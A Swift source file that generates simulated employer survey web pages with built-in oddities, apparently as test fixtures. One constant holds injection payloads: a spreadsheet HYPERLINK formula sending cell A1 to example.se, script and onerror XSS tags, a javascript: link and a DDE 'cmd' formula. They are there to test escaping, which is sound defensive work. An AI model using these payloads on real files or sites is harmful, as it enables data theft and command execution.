import SurveyModel

/// Makes the saved pages of one employer: mostly one, with what is wrong with it.
package struct PageMaker: Sendable {
  let plan: SimulationPlan
  let templates: TemplateSet

  package struct Page: Sendable {
    /// File name without folder.
    package var name: String
    package var bytes: [UInt8]
  }

  /// The pages of an employer that answered on the web, or did so as well.
  func pages(_ employer: Employer, _ approach: Approach) -> [Page] {
    let id = employer.id
    switch approach.oddity {
    case .noQuestionnaire:
      return [Page(name: "\(id).html", bytes: Array(templates.thankYou.utf8))]
    case .sentTwice:
      let first = page(employer, approach, answered: approach.closed, stopsHalfWay: true)
      let second = page(employer, approach, answered: min(plan.dates.lastDay, approach.closed + 6))
      return [Page(name: "\(id).html", bytes: first), Page(name: "\(id)-2.html", bytes: second)]
    case .cutOff:
      let whole = page(employer, approach, answered: approach.closed)
      return [Page(name: "\(id).html", bytes: Array(whole.prefix(whole.count * 5 / 9)))]
    default:
      let stops = approach.disposition == .partial
      return [
        Page(name: "\(id).html", bytes: page(employer, approach, answered: approach.closed, stopsHalfWay: stops))
      ]
    }
  }

  private func page(
    _ employer: Employer, _ approach: Approach, answered: CalendarDay, stopsHalfWay: Bool = false
  ) -> [UInt8] {
    let respondent = Respondent(plan: plan)
    var scope = respondent.fill(
      AnswerSheet(employer), mode: .web, oddity: approach.oddity, stopsHalfWay: stopsHalfWay)
    Contact(plan: plan).add(to: &scope, for: employer.id)
    scope["answered"] = .written(answered.description)
    scope["competences"] = .list(
      CompetenceCode.allCases.map { ["code": .written($0.rawValue), "label": .written($0.label)] })
    scope["supports"] = .list(
      SupportCode.allCases.map { ["code": .written($0.rawValue), "label": .written($0.label)] })
    scope["obstacles"] = .list(
      ObstacleCode.allCases.map { ["code": .written($0.rawValue), "label": .written($0.label)] })
    if approach.oddity == .injection {
      scope["comment"] = .written(Self.injection)
      scope["quotePermission"] = .written("yes")
    }
    let template = templates.form(long: employer.hasLongForm, otherMake: approach.oddity == .otherMake)
    switch approach.oddity {
    case .windows1252:
      scope["charset"] = .written("windows-1252")
      return Windows1252.bytes(template.render(scope, escape: Self.escaped))
    case .wrongCharset:
      scope["charset"] = .written("iso-8859-1")
    default:
      scope["charset"] = .written("utf-8")
    }
    return Array(template.render(scope, escape: Self.escaped).utf8)
  }

  /// Someone tries to get script, Markdown and a spreadsheet formula into the report.
  static let injection = """
    =HYPERLINK("http://example.se/?"&A1;"Klicka") <script>alert('hej')</script> <img src=x onerror=alert(1)> \
    [läs mer](javascript:alert(1)) | **fet** | # rubrik ![x](http://example.se/x.png) {{staff}} @SUM(1+1)*cmd|' /C calc'!A0
    """

  static func escaped(_ text: String) -> String {
    guard text.utf8.contains(where: { $0 == 0x26 || $0 == 0x3C || $0 == 0x3E || $0 == 0x22 }) else { return text }
    var out = ""
    for character in text {
      switch character {
      case "&": out += "&amp;"
      case "<": out += "&lt;"
      case ">": out += "&gt;"
      case "\"": out += "&quot;"
      default: out.append(character)
      }
    }
    return out
  }
}
